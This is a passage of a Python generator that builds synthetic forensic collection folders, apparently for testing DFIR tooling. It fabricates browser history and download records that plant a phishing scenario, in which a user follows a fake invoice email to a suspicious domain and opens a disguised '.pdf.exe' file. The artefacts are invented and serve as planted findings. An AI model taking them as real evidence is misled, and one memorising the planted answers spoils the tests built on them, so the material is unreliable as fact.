CREATE TABLE keyword_search_terms (keyword_id INTEGER NOT NULL,url_id INTEGER NOT NULL,term LONGVARCHAR NOT NULL,normalized_term LONGVARCHAR NOT NULL);
CREATE INDEX keyword_search_terms_index1 ON keyword_search_terms (keyword_id, normalized_term);
CREATE INDEX keyword_search_terms_index2 ON keyword_search_terms (url_id);
CREATE INDEX keyword_search_terms_index3 ON keyword_search_terms (term);
CREATE TABLE downloads (id INTEGER PRIMARY KEY,guid VARCHAR NOT NULL,current_path LONGVARCHAR NOT NULL,target_path LONGVARCHAR NOT NULL,start_time INTEGER NOT NULL,received_bytes INTEGER NOT NULL,total_bytes INTEGER NOT NULL,state INTEGER NOT NULL,danger_type INTEGER NOT NULL,interrupt_reason INTEGER NOT NULL,hash BLOB NOT NULL,end_time INTEGER NOT NULL,opened INTEGER NOT NULL,last_access_time INTEGER NOT NULL,transient INTEGER NOT NULL,referrer VARCHAR NOT NULL,site_url VARCHAR NOT NULL,embedder_download_data VARCHAR NOT NULL,tab_url VARCHAR NOT NULL,tab_referrer_url VARCHAR NOT NULL,http_method VARCHAR NOT NULL,by_ext_id VARCHAR NOT NULL,by_ext_name VARCHAR NOT NULL,by_web_app_id VARCHAR NOT NULL,etag VARCHAR NOT NULL,last_modified VARCHAR NOT NULL,mime_type VARCHAR(255) NOT NULL,original_mime_type VARCHAR(255) NOT NULL);
CREATE TABLE downloads_url_chains (id INTEGER NOT NULL,chain_index INTEGER NOT NULL,url LONGVARCHAR NOT NULL, PRIMARY KEY (id, chain_index) );
CREATE TABLE downloads_slices (download_id INTEGER NOT NULL,offset INTEGER NOT NULL,received_bytes INTEGER NOT NULL,finished INTEGER NOT NULL DEFAULT 0,PRIMARY KEY (download_id, offset) );
CREATE TABLE segments (id INTEGER PRIMARY KEY,name VARCHAR,url_id INTEGER NON NULL);
CREATE INDEX segments_name ON segments(name);
CREATE INDEX segments_url_id ON segments(url_id);
CREATE TABLE segment_usage (id INTEGER PRIMARY KEY,segment_id INTEGER NOT NULL,time_slot INTEGER NOT NULL,visit_count INTEGER DEFAULT 0 NOT NULL);
CREATE INDEX segment_usage_time_slot_segment_id ON segment_usage(time_slot, segment_id);
CREATE INDEX segments_usage_seg_id ON segment_usage(segment_id);
CREATE INDEX urls_url_index ON urls (url);
"""


def _browse_plan(scn: Scenario, browser: str) -> list[tuple[dt.datetime, str, str, int]]:
    """(local time, url, title, transition) in time order."""
    t, u = scn.t, scn.user
    inv = t["invoice_download"]
    if browser == "edge":
        first = dt.datetime.combine(day_gt12_before(scn.date, 20), dt.time(9, 1, 44))
        return [(first, "https://www.msn.com/en-us/feed", "MSN", 0x30000001),
                (first + dt.timedelta(minutes=2), "https://www.google.com/chrome/",
                 "Google Chrome - The Fast & Secure Web Browser Built to be Yours", 0x01)]
    day = lambda n, hms: dt.datetime.combine(scn.date - dt.timedelta(days=n), dt.time(*map(int, hms.split(":"))))
    search = "https://www.google.com/search?q=dfir-script.ps1+github&sourceid=chrome&ie=UTF-8"
    return [
        (day(9, "08:31:12"), "https://outlook.office.com/mail/", "Mail - " + scn.user_full + " - Outlook", 0x30000001),
        (day(8, "10:05:40"), "https://www.google.com/", "Google", 0x30000001),
        (inv - dt.timedelta(minutes=3, seconds=12), "https://outlook.office.com/mail/", "Mail - " + scn.user_full + " - Outlook", 0x30000001),
        (inv - dt.timedelta(minutes=1, seconds=5), "https://outlook.office.com/mail/inbox/id/AAQkADc3ZTE4",
         "Invoice overdue - please review - " + scn.user_full + " - Outlook", 0),
        (inv - dt.timedelta(seconds=21), "https://cdn-docs-portal.top/share/", "Document Portal - Secure Share", 0),
        (day(1, "09:12:03"), "https://teams.microsoft.com/v2/", "Chat | Microsoft Teams", 0x30000001),
        (t["collect"] - dt.timedelta(minutes=19, seconds=40), search, "dfir-script.ps1 github - Google Search", 0x30000001),
        (t["collect"] - dt.timedelta(minutes=19, seconds=22), "https://github.com/Bert-JanP/Incident-Response-Powershell",
         "GitHub - Bert-JanP/Incident-Response-Powershell: PowerShell Digital Forensics & Incident Response Scripts.", 0),
    ]


def write_chromium_profile(scn: Scenario, folder: Path, browser: str) -> None:
    """History (SQLite), Preferences (JSON) and, from dfb9b91, an IndexedDB folder."""
    folder.mkdir(parents=True, exist_ok=True)
    db = folder / "History"
    if db.exists():
        db.unlink()
    con = sqlite3.connect(db)
    con.executescript(CHROME_SCHEMA)
    con.executemany("INSERT INTO meta VALUES (?,?)", [("mmap_status", "-1"), ("version", "70"),
                    ("last_compatible_version", "16"), ("early_expiration_threshold", str(webkit_us(scn.utc(scn.t["os_install"]))))])
    url_ids: dict[str, int] = {}
    for when, url, title, transition in _browse_plan(scn, browser):
        w = webkit_us(scn.utc(when)) + scn.rng("chrome-us" + url).randint(0, 999999)
        if url not in url_ids:
            cur = con.execute("INSERT INTO urls(url,title,visit_count,typed_count,last_visit_time,hidden) VALUES (?,?,0,0,0,0)",
                              (url, title))
            url_ids[url] = cur.lastrowid
        uid = url_ids[url]
        typed = 1 if transition & 0xFF == 1 else 0
        con.execute("UPDATE urls SET visit_count=visit_count+1, typed_count=typed_count+?, last_visit_time=? WHERE id=?",
                    (typed, w, uid))
        con.execute("INSERT INTO visits(url,visit_time,from_visit,external_referrer_url,transition,segment_id,"
                    "visit_duration,incremented_omnibox_typed_score,opener_visit,originator_cache_guid,"
                    "originator_visit_id,originator_from_visit,originator_opener_visit,is_known_to_sync,"
                    "consider_for_ntp_most_visited,visited_link_id,app_id) VALUES (?,?,0,'',?,0,?,0,0,'',0,0,0,0,1,0,NULL)",
                    (uid, w, transition, 4_000_000 + uid * 731_113))
        if "google.com/search" in url:
            con.execute("INSERT INTO keyword_search_terms VALUES (2,?,?,?)", (uid, "dfir-script.ps1 github",
                                                                             "dfir-script.ps1 github"))
    if browser == "chrome":
        inv = scn.t["invoice_download"]
        url = DOWNLOAD_URL.format(date=inv.date().isoformat())
        target = f"C:\\Users\\{scn.user}\\Downloads\\Invoice_{inv.date().isoformat()}.pdf.exe"
        ps1 = f"C:\\Users\\{scn.user}\\Downloads\\DFIR-Script.ps1"
        gh_raw = "https://raw.githubusercontent.com/Bert-JanP/Incident-Response-Powershell/main/DFIR-Script.ps1"
        dl_ps1 = scn.collect - dt.timedelta(minutes=18, seconds=57)
        downloads = [  # id, url, target, start, size, danger, opened, last access, referrer, tab, tab ref, mime, etag, modified
            (1, url, target, inv, 2489344, 6, 1, scn.t["invoice_run"], "https://cdn-docs-portal.top/share/",
             "https://cdn-docs-portal.top/share/", "https://outlook.office.com/", "application/x-msdownload",
             '"25fc00-63f1b2a4c8e40"', (scn.utc(inv) - dt.timedelta(hours=5, minutes=7)).strftime("%a, %d %b %Y %H:%M:%S GMT")),
            (2, gh_raw, ps1, dl_ps1, 27689, 0, 0, dl_ps1, "https://github.com/",
             "https://github.com/Bert-JanP/Incident-Response-Powershell", "", "text/plain",
             '"4b0bc6bb2334e14f9570a5df1c088de14a00d0be"', ""),
        ]
        for did, src, tgt, start, size, danger, opened, last, ref, tab, tabref, mime, etag, mod in downloads:
            con.execute("INSERT INTO downloads VALUES (?,?,?,?,?,?,?,1,?,0,?,?,?,?,0,?,'','',?,?,'GET','','','',?,?,?,?)",
                        (did, fake_guid(scn.rng(f"dl{did}")), tgt, tgt, webkit_us(scn.utc(start)), size, size, danger,
                         bytes.fromhex(fake_sha256(tgt)), webkit_us(scn.utc(start + dt.timedelta(seconds=3))), opened,
                         webkit_us(scn.utc(last)), ref, tab, tabref, etag, mod, mime, mime))
            con.execute("INSERT INTO downloads_url_chains VALUES (?,0,?)", (did, src))
    con.commit()
    con.close()
    prefs = {"browser": {"has_seen_welcome_page": True, "window_placement": {"maximized": True}},
             "download": {"default_directory": f"C:\\Users\\{scn.user}\\Downloads", "directory_upgrade": True},
             "intl": {"selected_languages": f"{scn.culture.name},en"},
             "profile": {"avatar_index": 26, "created_by_version": era(scn)["chrome_created" if browser == "chrome" else "edge_created"],
                         "exit_type": "Crashed", "name": "Person 1" if browser == "edge" else "Your Chrome"}}
    (folder / "Preferences").write_text(json.dumps(prefs, separators=(",", ":")), encoding="utf-8")
    if scn.family == "F6" or (scn.family == "F5" and scn.date >= dt.date(2025, 7, 1)):
        idb = folder / "IndexedDB" / "https_outlook.office.com_0.indexeddb.leveldb"
        idb.mkdir(parents=True, exist_ok=True)
        (idb / "CURRENT").write_bytes(b"MANIFEST-000001\n")
        (idb / "LOCK").write_bytes(b"")
        stamp = scn.utc(scn.t["user_logon"] + dt.timedelta(minutes=2)).strftime("%Y/%m/%d-%H:%M:%S.%f")
        (idb / "LOG").write_bytes(f"{stamp} 2a1c Reusing MANIFEST C:\\Users\\{scn.user}\\AppData\\Local\\Google\\Chrome"
                                  f"\\User Data\\Default\\IndexedDB\\https_outlook.office.com_0.indexeddb.leveldb/"
                                  "MANIFEST-000001\n".encode())


def firefox_url_hash(url: str) -> int:
    """mozilla::places::HashURL: (hash(prefix) & 0xFFFF) << 32 | hash(url)."""
    def hash_string(s: str) -> int:
        h = 0
        for ch in s.encode("utf-8"):
            h = (((h << 5) | (h >> 27)) & 0xFFFFFFFF) ^ ch
            h = (h * 0x9E3779B9) & 0xFFFFFFFF
        return h
    prefix = url.split(":", 1)[0]
    return ((hash_string(prefix) & 0xFFFF) << 32) + hash_string(url)


FIREFOX_SCHEMA = """
CREATE TABLE moz_origins ( id INTEGER PRIMARY KEY, prefix TEXT NOT NULL, host TEXT NOT NULL, frecency INTEGER NOT NULL, recalc_frecency INTEGER NOT NULL DEFAULT 0, alt_frecency INTEGER, recalc_alt_frecency INTEGER NOT NULL DEFAULT 0, UNIQUE (prefix, host) );
CREATE TABLE moz_places (   id INTEGER PRIMARY KEY, url LONGVARCHAR, title LONGVARCHAR, rev_host LONGVARCHAR, visit_count INTEGER DEFAULT 0, hidden INTEGER DEFAULT 0 NOT NULL, typed INTEGER DEFAULT 0 NOT NULL, frecency INTEGER DEFAULT -1 NOT NULL, last_visit_date INTEGER , guid TEXT, foreign_count INTEGER DEFAULT 0 NOT NULL, url_hash INTEGER DEFAULT 0 NOT NULL , description TEXT, preview_image_url TEXT, site_name TEXT, origin_id INTEGER REFERENCES moz_origins(id), recalc_frecency INTEGER NOT NULL DEFAULT 0, alt_frecency INTEGER, recalc_alt_frecency INTEGER NOT NULL DEFAULT 0);
CREATE TABLE moz_historyvisits (  id INTEGER PRIMARY KEY, from_visit INTEGER, place_id INTEGER, visit_date INTEGER, visit_type INTEGER, session INTEGER, source INTEGER DEFAULT 0 NOT NULL, triggeringPlaceId INTEGER);
CREATE TABLE moz_inputhistory (  place_id INTEGER NOT NULL, input LONGVARCHAR NOT NULL, use_count INTEGER, PRIMARY KEY (place_id, input));
CREATE TABLE moz_bookmarks (  id INTEGER PRIMARY KEY, type INTEGER, fk INTEGER DEFAULT NULL, parent INTEGER, position INTEGER, title LONGVARCHAR, keyword_id INTEGER, folder_type TEXT, dateAdded INTEGER, lastModified INTEGER, guid TEXT, syncStatus INTEGER NOT NULL DEFAULT 0, syncChangeCounter INTEGER NOT NULL DEFAULT 1);
CREATE TABLE moz_keywords (  id INTEGER PRIMARY KEY AUTOINCREMENT, keyword TEXT UNIQUE, place_id INTEGER, post_data TEXT);
CREATE TABLE moz_anno_attributes (  id INTEGER PRIMARY KEY, name VARCHAR(32) UNIQUE NOT NULL);
CREATE TABLE moz_annos (  id INTEGER PRIMARY KEY, place_id INTEGER NOT NULL, anno_attribute_id INTEGER, content LONGVARCHAR, flags INTEGER DEFAULT 0, expiration INTEGER DEFAULT 0, type INTEGER DEFAULT 0, dateAdded INTEGER DEFAULT 0, lastModified INTEGER DEFAULT 0);
CREATE TABLE moz_meta (key TEXT PRIMARY KEY, value NOT NULL) WITHOUT ROWID ;
CREATE INDEX moz_places_url_hashindex ON moz_places (url_hash);
CREATE INDEX moz_places_hostindex ON moz_places (rev_host);
CREATE INDEX moz_places_lastvisitdateindex ON moz_places (last_visit_date);
CREATE UNIQUE INDEX moz_places_guid_uniqueindex ON moz_places (guid);
CREATE INDEX moz_places_originidindex ON moz_places (origin_id);
CREATE INDEX moz_historyvisits_placedateindex ON moz_historyvisits (place_id, visit_date);
CREATE INDEX moz_historyvisits_fromindex ON moz_historyvisits (from_visit);
CREATE INDEX moz_historyvisits_dateindex ON moz_historyvisits (visit_date);
"""


def write_firefox_profile(scn: Scenario, folder: Path) -> None:
    """places.sqlite (WAL mode, page size 32768, user_version 77), permissions.sqlite,
    content-prefs.sqlite and the empty `extensions` folder (copied without -Recurse)."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = scn.rng("firefox")
    visits = [(dt.datetime.combine(day_gt12_before(scn.date, 10), dt.time(19, 2, 11)),
               f"https://www.mozilla.org/en-US/firefox/{era(scn)['firefox']}/firstrun/", "Firefox Browser", 1),
              (dt.datetime.combine(day_gt12_before(scn.date, 10), dt.time(19, 3, 40)),
               "https://www.youtube.com/", "YouTube", 2),
              (dt.datetime.combine(day_gt12_before(scn.date, 4), dt.time(20, 44, 5)),
               "https://www.reddit.com/r/sysadmin/", "sysadmin", 1)]
    path = folder / "places.sqlite"
    for stale in (path, folder / "places.sqlite-wal", folder / "places.sqlite-shm"):
        if stale.exists():
            stale.unlink()
    con = sqlite3.connect(path)
    con.execute("PRAGMA page_size=32768")
    con.execute("PRAGMA journal_mode=WAL")
    con.executescript(FIREFOX_SCHEMA)
    con.execute("PRAGMA user_version=77")
    origins: dict[tuple[str, str], int] = {}
    for n, (when, url, title, vtype) in enumerate(visits, start=1):
        prefix, rest = url.split("://", 1)
        host = rest.split("/", 1)[0]
        key = (prefix + "://", host)
        if key not in origins:
            origins[key] = con.execute("INSERT INTO moz_origins(prefix,host,frecency) VALUES (?,?,?)",
                                       (key[0], host, 100 + n)).lastrowid
        guid = base64.urlsafe_b64encode(rng.getrandbits(72).to_bytes(9, "big")).decode()
        pr = prtime(scn.utc(when)) + rng.randint(0, 999999)
        pid = con.execute("INSERT INTO moz_places(url,title,rev_host,visit_count,hidden,typed,frecency,last_visit_date,"
                          "guid,url_hash,origin_id) VALUES (?,?,?,1,0,?,?,?,?,?,?)",
                          (url, title, host[::-1] + ".", 1 if vtype == 2 else 0, 2000 - n, pr, guid,
                           firefox_url_hash(url), origins[key])).lastrowid
        con.execute("INSERT INTO moz_historyvisits(from_visit,place_id,visit_date,visit_type,session,source) "
                    "VALUES (0,?,?,?,0,0)", (pid, pr, vtype))
    con.execute("INSERT INTO moz_meta VALUES ('origin_frecency_count', ?)", (len(origins),))
    con.commit()
    con.close()
    for name, sql in (("permissions.sqlite", "CREATE TABLE moz_perms ( id INTEGER PRIMARY KEY,origin TEXT,type TEXT,"
                       "permission INTEGER,expireType INTEGER,expireTime INTEGER,modificationTime INTEGER);"
                       "CREATE TABLE moz_hosts ( id INTEGER PRIMARY KEY,host TEXT,type TEXT,permission INTEGER,"
                       "expireType INTEGER,expireTime INTEGER,modificationTime INTEGER,isInBrowserElement INTEGER);"),
                      ("content-prefs.sqlite", "CREATE TABLE groups (id INTEGER PRIMARY KEY, name TEXT NOT NULL);"
                       "CREATE TABLE settings (id INTEGER PRIMARY KEY, name TEXT NOT NULL);"
                       "CREATE TABLE prefs (id INTEGER PRIMARY KEY, groupID INTEGER REFERENCES groups(id), settingID "
                       "INTEGER NOT NULL REFERENCES settings(id), value BLOB, timestamp INTEGER NOT NULL DEFAULT 0);")):
        p = folder / name
        if p.exists():
            p.unlink()
        c = sqlite3.connect(p)
        c.executescript(sql)
        c.close()
    (folder / "extensions").mkdir(exist_ok=True)


# =============================================================================
# 7. Family layouts
# =============================================================================

def write_collection(out_dir: str | Path, host: str = "WS01", date: str | dt.date = "2025-10-02", family: str = "F6",
                     culture: str = "en-US", seed: int = 1, *, admin: bool = True, context: str | None = None,
                     rows_scale: float = 1.0, collect_time: str = "14:36:50", evtx_dir: Path | None = CORPUS_DIR,
                     width: int = FORMAT_WIDTH) -> Path:
    """Write the folder DFIR-<HOST>-<date> into `out_dir` and return its path.

    family   F6 (2.2.4), F5 (887bb0a..dfb9b91), F4 (ffff22c), F3b (a4ce327), F3a (9e6a9d0), F1 (479cd3b..c097858)
    context  "user" (elevated console of the main user) or "system" (Live Response); default: system for F1
    admin    False drops the admin-only artefacts of §1.4
    """
    scn = build_scenario(host, date, family, culture, seed, admin, context, rows_scale, collect_time)
    root = Path(out_dir) / scn.folder_name
    if root.exists():
        shutil.rmtree(root)
    root.mkdir(parents=True)
    w = CollectionWriter(scn, root, evtx_dir, width)
    if w.csv_dir:
        w.p(w.csv_dir).mkdir()
    # Run-WithoutAdminPrivilege, in the script's order
    w.get_ip_info()
    w.get_open_connections()
    w.get_autorun_info()
    w.get_active_users()
    w.get_local_users()
    w.get_active_processes()
    w.get_office_connections()
    w.get_network_shares()
    w.get_smb_shares()
    w.get_rdp_sessions()
    w.get_powershell_history_current_user()
    w.get_dns_cache()
    w.get_installed_drivers()
    w.get_recently_installed_software()
    w.get_running_services()          # F1/F3a/F3b: overwrites the MSI text file
    w.get_scheduled_tasks()
    w.get_scheduled_tasks_run_info()
    if family != "F1":
        w.get_connected_devices()
        if scn.context == "user":
            w.get_browser_files()
    # Run-WithAdminPrivilges
    if admin:
        if family != "F3b":           # c655563..a4ce327: -time/-sw binding bug, no security events
            w.get_security_event_count()
            w.get_security_events()
        w.get_remotely_opened_files()
        w.get_shadow_copies()
        if family != "F1":
            w.get_event_viewer_files()
        if family not in ("F1", "F3a"):
            w.get_mplogs()
            w.get_defender_exclusions()
        if family in ("F5", "F6"):
            w.get_powershell_console_history_all_users()
    if family == "F3a":
        w.rewrite_datasource()
    return root


# =============================================================================
# 8. Zip (Compress-Archive of Windows PowerShell 5.1)
# =============================================================================

def _ps_walk(folder: Path) -> Iterator[Path]:
    """Get-ChildItem -Recurse order: a directory's items (NTFS order), then each sub-directory."""
    items = sorted(folder.iterdir(), key=lambda p: p.name.upper())
    yield from items
    for item in items:
        if item.is_dir():
            yield from _ps_walk(item)


def zip_collection(folder: str | Path, zip_path: str | Path, backslash: bool = True,
                   timestamp: dt.datetime | None = None) -> Path:
    """Zip `folder` the way `Compress-Archive -LiteralPath <folder>` does in 5.1: the
    root entry is the folder name and, with `backslash`, entry names use '\\' (§9.8)."""
    folder, zip_path = Path(folder), Path(zip_path)
    sep = "\\" if backslash else "/"
    if timestamp is None:
        m = re.search(r"(\d{4})-(\d\d)-(\d\d)$", folder.name)
        timestamp = dt.datetime(*map(int, m.groups()), 12, 0, 0) if m else dt.datetime(2020, 1, 1)
    stamp = timestamp.timetuple()[:6]
    zip_path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(zip_path, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in _ps_walk(folder):
            rel = sep.join((folder.name,) + item.relative_to(folder).parts)
            if item.is_dir():
                if any(item.iterdir()):
                    continue
                rel += sep                                     # empty folder entry
                data = b""
            else:
                data = item.read_bytes()
            info = zipfile.ZipInfo(rel, date_time=stamp)
            info.create_system = 0                             # MS-DOS/Windows
            info.external_attr = 0x10 if item.is_dir() else 0x20   # DOS directory / archive attribute
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return zip_path


def nest_zip(inner_zip: str | Path, outer_zip: str | Path, timestamp: dt.datetime | None = None) -> Path:
    """Wrap a collection zip in an outer zip (a Live Response `getfile` download)."""
    inner_zip, outer_zip = Path(inner_zip), Path(outer_zip)
    info = zipfile.ZipInfo(inner_zip.name, date_time=(timestamp or dt.datetime(2020, 1, 1)).timetuple()[:6])
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(outer_zip, "w") as zf:
        zf.writestr(info, inner_zip.read_bytes())
    return outer_zip


# =============================================================================
# 9. Big CSVs for benchmarks (streamed, bounded memory)
# =============================================================================

BIG_KINDS = ("DNSCache", "ProcessList", "SecurityEvents")


def write_big_csv(path: str | Path, kind: str, rows: int, seed: int = 1, culture: str = "en-US",
                  chunk_rows: int = 8192) -> Path:
    """Stream `rows` records of one structured CSV in its exact on-disk format:
    DNSCache / SecurityEvents as C8 (UTF-8 BOM, CRLF, multi-line Message), ProcessList
    as CA (ASCII).  Rows are assembled from pools of pre-encoded fragments (no per-row
    re-encoding), so 1M rows take seconds and memory stays bounded by `chunk_rows`."""
    if kind not in BIG_KINDS:
        raise ValueError(f"kind must be one of {BIG_KINDS}")
    path = _mkparent(Path(path))
    scn = build_scenario("BENCH01", "2025-10-02", "F6", culture, seed)
    rng = sub_rng(seed, f"big:{kind}")
    gen = {"DNSCache": _big_dns, "ProcessList": _big_processes, "SecurityEvents": _big_security}[kind]
    header, pieces = gen(scn, rng, rows)
    bom = b"" if kind == "ProcessList" else b"\xef\xbb\xbf"
    with open(path, "wb") as fh:
        fh.write(bom + header.encode("ascii") + b"\r\n")
        for start in range(0, rows, chunk_rows):
            buf: list[bytes] = []
            for i in range(start, min(start + chunk_rows, rows)):
                buf.extend(pieces(i))
            fh.write(b"".join(buf))
    return path


def _q(v: str | None) -> str:
    return csv_field(v)


def _b(text: str, ascii_only: bool = False) -> bytes:
    return to_ascii(text).encode("ascii") if ascii_only else text.encode("utf-8")


def _big_dns(scn, rng, rows):
    sample = dns_entries(scn)
    header = ",".join(_q(h) for h in sample[0])
    tail = ",".join(_q(scn.pv.csv(sample[0][k])) for k in ("PSComputerName", "CimClass", "CimInstanceProperties",
                                                           "CimSystemProperties"))
    words = ["cdn", "edge", "api", "static", "img", "login", "telemetry", "update", "assets", "mail", "sync", "files"]
    tlds = ["com", "net", "org", "io", "xyz", "top", "de", "nl", "co.uk", "cloud"]
    pool = []
    for _ in range(4096):
        name = f"{rng.choice(words)}{rng.randint(1, 99)}.{rng.choice(words)}-{rng.randrange(16**6):06x}.{rng.choice(tlds)}"
        if rng.random() < 0.1:                      # negative cache entry: Data/Name/Section null
            pool.append(_b(f',,,,,,"0","{name}",,,"9003","1",{tail}\r\n'))
        else:
            data = f"{rng.randint(1, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randint(1, 254)}"
            pool.append(_b(f',,,,,"{data}","4","{name}","{name}","1","0","1",{tail}\r\n'))
    ttls = [_b(f'"{t}"') for t in range(86400)]
    n = len(pool)
    return header, lambda i: (ttls[(i * 7919) % 86400], pool[(i * 2654435761) % n])


def _big_processes(scn, rng, rows):
    header = '"Proc_Name","Proc_Path","Proc_CommandLine","Proc_ParentProcessId","Proc_ProcessId","Proc_Hash"'
    pool = [(_b(f'{_q(p.name)},{_q(p.path)},{_q(p.cmd)},"', True), _b(f'",{_q(p.hash)}\r\n', True))
            for p in scn.procs if p.path]
    n = len(pool)
    return header, lambda i: (pool[i % n][0], str((i * 4 + 1000) % 65536).encode(), b'","',
                              str(i * 4 + 4).encode(), pool[i % n][1])


def _big_security(scn, rng, rows):
    """Weighted like a real Security log (many short 4672/4634/5379/4798, some 4624/4625/4688):
    about 1 KB per record, as in the 1M-row/993 MB benchmark file."""
    by_id: dict[int, list[dict]] = {}
    for e in scn.events:
        by_id.setdefault(e["EventID"], []).append(e)
    t = scn.t
    acct = (scn.user_sid, scn.user, "AzureAD", "0x2f4a1b9")
    extra = [sec_event(scn, t["collect"], 4634, msg_4634(SYSTEM_ACCT, 5)),
             sec_event(scn, t["collect"], 4634, msg_4634(acct, 2))]
    weights = {4672: 6, 4634: 5, 5379: 3, 4798: 3, 4624: 2, 4625: 1, 4688: 1}
    chosen = []
    for eid, w in weights.items():
        events = by_id.get(eid, []) + [e for e in extra if e["EventID"] == eid]
        for k in range(w):
            chosen.append(events[k % len(events)])
    header = ",".join(_q(h) for h in scn.events[0])
    frags = [(_b(f'"{e["EventID"]}",{_q(e["MachineName"])},"System.Byte[]","'),
              _b(f'",{_q(e["Category"])},"{e["CategoryNumber"]}",{_q(e["EntryType"])},{_q(e["Message"])},'
                 f'{_q(e["Source"])},"System.String[]","{e["InstanceId"]}","')) for e in chosen]
    n, g, end = len(frags), scn.culture.g, scn.collect
    stamps: dict[int, bytes] = {}
    tail = b'",,,\r\n'

    def pieces(i: int):
        head, mid = frags[(i * 40503) % n]
        sec = (i * 173) // 1000                     # ~5.8 events per second, newest first
        ts = stamps.get(sec)
        if ts is None:
            if len(stamps) > 8192:
                stamps.clear()
            text = g(end - dt.timedelta(seconds=sec)).encode()
            ts = stamps[sec] = text + b'","' + text
        return head, str(rows - i).encode(), mid, ts, tail
    return header, pieces


# =============================================================================
# 10. CLI
# =============================================================================

def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", required=True, type=Path, help="output directory")
    ap.add_argument("--host", default="WS01")
    ap.add_argument("--date", default="2025-10-02", help="collection date (yyyy-MM-dd, local)")
    ap.add_argument("--time", default="14:36:50", help="local start time of the script (09:00..19:59)")
    ap.add_argument("--family", default="F6", choices=FAMILIES)
    ap.add_argument("--culture", default="en-US", choices=CULTURES)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--rows-scale", type=float, default=1.0, help="scales the number of background events")
    ap.add_argument("--context", choices=("user", "system"), help="default: system for F1, user otherwise")
    ap.add_argument("--non-admin", action="store_true", help="omit the admin-only artefacts (§1.4)")
    ap.add_argument("--no-evtx", action="store_true", help="do not copy EVTX files from the corpus")
    ap.add_argument("--width", type=int, default=FORMAT_WIDTH, help="Format-List/Table width (120)")
    ap.add_argument("--zip", action="store_true", help="also write DFIR-<HOST>-<date>.zip")
    ap.add_argument("--backslash-names", action="store_true", help="zip entry names with '\\' (PowerShell 5.1)")
    ap.add_argument("--nested-zip", action="store_true", help="wrap the zip in LiveResponse_<name>.zip")
    ap.add_argument("--zip-only", action="store_true", help="delete the folder after zipping")
    ap.add_argument("--big-csv", choices=BIG_KINDS, help="instead: stream one big CSV into --out")
    ap.add_argument("--big-rows", type=int, default=1_000_000)
    ap.add_argument("--findings", action="store_true", help="print the planted findings as JSON")
    ap.add_argument("--no-check", action="store_true", help="skip the byte-level self-check")
    a = ap.parse_args(argv)

    if a.big_csv:
        path = write_big_csv(a.out / f"{a.big_csv}.csv", a.big_csv, a.big_rows, a.seed, a.culture)
        print(f"{path} ({path.stat().st_size:,} bytes)")
        return 0
    folder = write_collection(a.out, a.host, a.date, a.family, a.culture, a.seed, admin=not a.non_admin,
                              context=a.context, rows_scale=a.rows_scale, collect_time=a.time,
                              evtx_dir=None if a.no_evtx else CORPUS_DIR, width=a.width)
    scn = build_scenario(a.host, a.date, a.family, a.culture, a.seed, not a.non_admin, a.context, a.rows_scale, a.time)
    problems = []
    if not a.no_check:
        sys.path.insert(0, str(Path(__file__).resolve().parent))
        import check_bytes
        problems = check_bytes.check_folder(folder)
    written = [folder]
    if a.zip or a.nested_zip or a.zip_only:
        zpath = zip_collection(folder, a.out / f"{folder.name}.zip", backslash=a.backslash_names,
                               timestamp=scn.collect + dt.timedelta(minutes=2))
        written = [folder, zpath]
        if a.nested_zip:
            outer = nest_zip(zpath, a.out / f"LiveResponse_{folder.name}.zip", scn.collect + dt.timedelta(minutes=9))
            zpath.unlink()
            written = [folder, outer]
        if a.zip_only:
            shutil.rmtree(folder)
            written = written[1:]
    for w in written:
        print(w)
    if a.findings:
        print(json.dumps(scn.findings, indent=2, ensure_ascii=False))
    for p in problems:
        print("CHECK:", p, file=sys.stderr)
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
